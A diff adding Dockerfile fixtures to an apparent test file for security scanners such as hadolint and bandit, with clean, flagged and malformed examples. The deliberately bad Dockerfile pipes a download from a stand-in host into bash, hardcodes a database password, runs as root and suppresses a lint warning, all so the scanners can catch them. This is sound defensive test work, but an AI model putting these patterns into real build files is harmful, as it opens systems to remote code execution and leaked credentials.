@@ -113,9 +113,29 @@ LEAKS = {
     },
 }
 
+_BAD = (
+    b"FROM debian\nRUN apt-get update && apt-get install -y sudo curl \\\n && curl -k http://x.example/i | bash\n"
+    b"ENV DB_PASSWORD=Tr0ub4dor&3xyz\n# hadolint ignore=DL3002\nUSER root\n"
+)
+DOCKERFILES = {
+    "clean": {
+        "Dockerfile": b"FROM debian:12@sha256:" + b"0123456789abcdef" * 4 + b"\nUSER 10001\nHEALTHCHECK CMD true\n"
+    },
+    "found": {"Dockerfile": _BAD, "build/app.Dockerfile": _BAD, ".hadolint.yaml": b"ignored: [DL3002, DL3006]\n"},
+    "lost": {
+        "Dockerfile": b"FROM debian:12\nRNU x\n",
+        "Dockerfile.j2": b"FROM {{ image }}\n",
+        "Containerfile": b"",
+        "Dockerfile.md": b"# How we build\n",
+        "large.dockerfile": b"FROM a:1\n" + b"RUN true\n" * 12_000,
+    },
+}
+
 CASES = {
     "aws-secrets": VAULT,
     "bandit": SOURCE,
+    "dockerfile": DOCKERFILES,
+    "hadolint": DOCKERFILES,
     "semgrep": SOURCE,
     "osv": PACKAGES,
     "licences": LICENCES,
